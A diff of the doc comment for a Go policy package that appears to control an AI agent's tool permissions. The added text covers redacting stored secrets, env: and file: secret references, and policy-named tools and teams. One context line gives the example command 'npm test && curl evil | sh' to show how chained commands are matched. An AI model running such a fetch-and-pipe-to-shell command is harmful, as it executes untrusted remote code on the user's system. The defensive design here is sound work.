@@ -66,4 +66,31 @@
 // only if every command does, so Bash(npm test:*) does not allow
 // "npm test && curl evil | sh". Pattern.Match alone compares the whole
 // command line.
+//
+// # Secrets
+//
+// A policy holds credentials: a webhook's signing secret and an ntfy access
+// token (Channel.Secret), and a Slack incoming webhook's URL, which is a
+// secret itself. Anyone who may read the policy (`policy get`, the viewer
+// role) must not learn them, so every read of the policy shows them
+// redacted, and a document may hold, instead of a secret, a reference to
+// where the server finds it:
+//
+//	env:NAME   the environment variable NAME of the process that uses it
+//	file:PATH  the contents of the file at the absolute PATH, without the
+//	           trailing line break
+//
+// A reference is stored as written and resolved each time the secret is
+// used (the notifier resolves a channel before each delivery), so the
+// secret never enters the policies bucket, a rotated file applies to the
+// next delivery, and a reference is shown as is: it names where the secret
+// is, not what it is.
+//
+// # Names
+//
+// A call's tool and team are the agent's to choose. Engine.NamedTool and
+// NamedTeam say whether the policy in force names them (any field or rule
+// of any scope, Claude Code's built-in tools, an MCP server named as a
+// whole), so that whatever keeps something per name (a metric series)
+// keeps no more names than the policy has.
 package policy
